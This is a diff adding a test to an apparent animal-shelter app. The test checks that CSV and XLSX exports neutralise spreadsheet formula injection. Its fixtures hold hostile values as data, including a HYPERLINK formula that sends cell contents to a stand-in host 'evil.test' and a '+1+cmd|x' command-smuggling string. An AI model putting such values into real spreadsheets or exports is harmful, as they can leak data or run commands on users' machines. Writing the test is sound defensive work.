@@ -185,6 +185,47 @@ test('export: CSV and XLSX with filters, every row, streamed', async () => {
   );
 });
 
+test('export: text a spreadsheet would run as a formula gets a quote in front, in CSV and XLSX; numbers stay numbers', async () => {
+  const org = await makeOrg(t);
+  const hostile = ['=HYPERLINK("http://evil.test?"&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1:A9)', '\t=1'];
+  for (const name of hostile) {
+    const a = await org.req('POST', '/api/v1/animals', { body: { name, species: '@dog', status: 'Available', intakeDate: '2026-01-01' } });
+    assert.equal(a.status, 201, a.raw);
+  }
+  const p = await org.req('POST', '/api/v1/people', {
+    body: { firstName: '=HYPERLINK("http://evil.test","x")', lastName: '-Lee', email: 'lee@example.org' },
+  });
+  assert.equal(p.status, 201, p.raw);
+  const animals = parse<{ name: string; species: string }>((await org.req('GET', '/api/exports/animals?format=csv')).raw, {
+    columns: true,
+  });
+  assert.deepEqual(animals.map((r) => r.name).sort(), hostile.map((h) => `'${h}`).sort());
+  assert.ok(animals.every((r) => r.species === "'@dog"));
+  const people = parse<{ first_name: string; last_name: string }>((await org.req('GET', '/api/exports/people?format=csv')).raw, {
+    columns: true,
+  });
+  assert.deepEqual([people[0]?.first_name, people[0]?.last_name], ['\'=HYPERLINK("http://evil.test","x")', "'-Lee"]);
+  const res = await t.app.inject({
+    method: 'GET',
+    url: '/api/exports/animals?format=xlsx',
+    headers: { host: org.host, authorization: `Bearer ${org.keys.admin}` },
+  });
+  const wb = new ExcelJS.Workbook();
+  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+  const names: unknown[] = [];
+  at(wb.worksheets, 0).eachRow((row, i) => {
+    if (i > 1) names.push(row.getCell(2).value);
+  });
+  assert.deepEqual(names.map(String).sort(), hostile.map((h) => `'${h}`).sort());
+  // Medical text too (the lot of a recall).
+  const medical = await org.req('POST', `/api/animals/${(await org.req('GET', '/api/v1/animals')).body.data[0].id}/medical`, {
+    body: { kind: 'vaccine', name: '=1+1', lot: '-L1', given_at: '2026-02-03T15:00:00Z' },
+  });
+  assert.equal(medical.status, 201, medical.raw);
+  const rows = parse<{ name: string; lot: string }>((await org.req('GET', '/api/exports/medical')).raw, { columns: true });
+  assert.deepEqual([rows[0]?.name, rows[0]?.lot], ["'=1+1", "'-L1"]);
+});
+
 test('export: medical records (a recall by lot) and stays, of live animals only, with their filters', async () => {
   const org = await makeOrg(t);
   const made = async (name: string) => {
